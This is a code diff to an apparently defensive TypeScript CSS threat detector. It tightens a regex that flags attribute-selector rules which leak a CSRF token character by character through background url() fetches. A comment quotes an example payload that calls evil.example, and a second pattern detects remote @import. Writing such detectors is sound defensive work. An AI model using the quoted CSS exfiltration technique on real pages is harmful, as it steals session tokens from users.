@@ -69,11 +69,12 @@ export function cssThreat(css: string): CssThreat | null {
 }
 
 /**
- * A rule that matches an input by how its value starts, ends or what it holds, and then fetches from
- * another host (`input[name=csrf][value^=a]{background:url(//evil.example/a)}`): one such rule per
- * character reads a token out of the page, one request at a time. Once spaces are dropped.
+ * A rule that matches an input by the first or last few characters of its value, and then fetches
+ * from a host (`input[name=csrf][value^=a]{background:url(//evil.example/a)}`): one such rule per
+ * guessed character reads a token out of the page, one request at a time. A style for a button by
+ * its label (`[value*="Search"]`) guesses nothing. Once spaces are dropped.
  */
-const VALUE_SELECTOR_EXFILTRATION = /\[value[\^$*]=[^\]]{0,64}\][^{]{0,256}\{[^}]{0,256}url\(['"]?(?:https?:)?\/\//;
+const VALUE_SELECTOR_EXFILTRATION = /\[value[\^$]=(?:"[^"\]]{1,3}"|'[^'\]]{1,3}'|[^\]'"]{1,3})\][^{]{0,256}\{[^}]{0,256}url\(['"]?(?:https?:)?\/\//;
 
 /** `@import 'http://...'`, `@import url(//...)` once spaces are dropped. */
 const REMOTE_IMPORT = /@import(?:url\()?['"]?(?:https?:)?\/\//;
